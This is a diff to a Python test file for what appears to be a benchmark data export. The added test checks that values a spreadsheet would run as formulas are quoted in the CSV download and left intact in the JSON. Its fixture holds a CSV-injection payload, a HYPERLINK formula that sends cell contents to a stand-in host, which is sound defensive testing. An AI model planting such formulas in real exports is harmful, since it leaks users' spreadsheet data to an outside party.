@@ -106,8 +106,18 @@ def test_json_and_csv_agree(tmp_path, fixture_data):
                     assert text == str(value).lower()
                 elif isinstance(value, (int, float)):
                     assert float(text) == value  # raw numbers, every digit, in both
-                else:
-                    assert text == value
+                else:  # a text a spreadsheet would run as a formula is quoted in the CSV only
+                    assert text == value or (text == "'" + value and value.startswith(downloads.FORMULA_START))
+
+
+def test_a_text_a_spreadsheet_would_run_is_quoted_in_the_csv_and_kept_in_the_json(tmp_path, data_dir):
+    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    write_run(data_dir, make_run(records=[make_record(device="@SUM(A1)")], host=formula))
+    project = render_project(tmp_path, data_dir)
+    row = read_csv(files_of(project) / "accelbench-records.csv")[0]
+    assert row["host"] == "'" + formula and row["device"] == "'@SUM(A1)"
+    assert json.loads((files_of(project) / "accelbench-records.json").read_text())[0]["host"] == formula
+    assert downloads.to_csv([{"x": -1.5, "y": "-1.5"}]) == b"x,y\n-1.5,-1.5\n"  # numbers stay numbers
 
 
 def test_the_dataset_has_one_row_per_stored_record(tmp_path, fixture_data):
